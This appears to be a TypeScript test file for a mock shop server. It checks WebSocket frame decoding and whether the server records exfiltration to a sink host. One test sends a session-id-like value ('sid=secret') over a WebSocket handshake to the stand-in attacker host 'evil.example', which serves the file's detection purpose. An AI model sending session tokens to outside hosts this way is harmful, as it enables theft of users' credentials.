// WebSocket exfiltration is recorded: handshake as GET, each message as a `WS` request.
import { connect as tlsConnect } from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startShop, type ShopServer } from '../../shop/index.ts';
import { decodeFrames } from '../../shop/server/websocket.ts';

let shop: ShopServer;

beforeAll(async () => {
  shop = await startShop();
});
afterAll(() => shop.close());

/** A masked client text frame, as a browser sends it. */
function clientFrame(text: string): Buffer {
  const payload = Buffer.from(text);
  const mask = Buffer.from([1, 2, 3, 4]);
  const masked = payload.map((byte, i) => byte ^ (mask[i % 4] ?? 0));
  return Buffer.concat([Buffer.from([0x81, 0x80 | payload.length]), mask, masked]);
}

describe('websocket sink', () => {
  it('decodes masked frames and keeps partial ones', () => {
    const frame = clientFrame('hello');
    const { messages, rest } = decodeFrames(Buffer.concat([frame, frame.subarray(0, 3)]));
    expect(messages.map(String)).toEqual(['hello']);
    expect(rest).toHaveLength(3);
  });

  it('accepts a handshake on a sink host and records messages', async () => {
    const tls = tlsConnect({ host: '127.0.0.1', port: shop.httpsPort, servername: 'evil.example', rejectUnauthorized: false });
    await new Promise((resolve) => tls.once('secureConnect', resolve));
    tls.write(
      'GET /ws HTTP/1.1\r\nHost: evil.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
        'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n',
    );
    const head = await new Promise<string>((resolve) => tls.once('data', (chunk: Buffer) => resolve(chunk.toString())));
    expect(head).toContain('101 Switching Protocols');
    expect(head).toContain('Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=');
    tls.write(clientFrame('sid=secret'));
    await expect
      .poll(() => shop.requests.find((r) => r.method === 'WS'))
      .toMatchObject({ host: 'evil.example', path: '/ws', body: 'sid=secret' });
    tls.destroy();
  });
});
